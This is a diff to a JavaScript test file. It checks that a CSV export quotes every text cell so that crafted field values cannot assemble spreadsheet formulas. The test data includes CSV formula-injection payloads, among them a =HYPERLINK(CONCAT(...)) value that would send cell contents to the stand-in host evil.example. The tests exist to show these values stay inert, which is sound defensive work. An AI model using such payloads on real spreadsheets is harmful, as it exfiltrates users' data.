@@ -31,10 +31,11 @@ test('a comma in one field and quotes in two others do not forge a quoted formul
   }
   const { csv, event } = await recordAndDownload(t, fields)
   const lines = csv.split('\r\n')
-  // Byte for byte, written from RFC 4180 by hand: each field its own cell, quotes doubled.
+  // Byte for byte, written from RFC 4180 by hand: each field its own cell, every text cell quoted
+  // (issue 25), quotes doubled.
   assert.equal(
     lines[1],
-    `${String(event.id)},${String(event.received_at)},"a,b",e,v,Deployed,,"""=SUM(1",2,"3)"",x",deploy,ci`,
+    `${String(event.id)},"${String(event.received_at)}","a,b","e","v","Deployed","","""=SUM(1","2","3)"",x","deploy","ci"`,
   )
   assert.doesNotMatch(csv, /"=SUM\(1,2,3\)"/, 'no cell reads =SUM(1,2,3)')
   // And as a strict RFC 4180 reader sees it: twelve cells, each the value sent.
@@ -71,8 +72,8 @@ test('the same trick cannot build a live =HYPERLINK that sends a cell to another
   const { csv, event } = await recordAndDownload(t, fields)
   assert.equal(
     csv.split('\r\n')[1],
-    `${String(event.id)},${String(event.received_at)},"x,y",prod,1.0,Deployed,https://ci.example/run/1,` +
-      '"""=HYPERLINK(CONCAT(""""http://evil.example/?""""",A1,"A2))"",z",deploy,ci',
+    `${String(event.id)},"${String(event.received_at)}","x,y","prod","1.0","Deployed","https://ci.example/run/1",` +
+      '"""=HYPERLINK(CONCAT(""""http://evil.example/?""""","A1","A2))"",z","deploy","ci"',
   )
   const rows = parseCsv(csv)
   assert.equal(rows.length, 2)
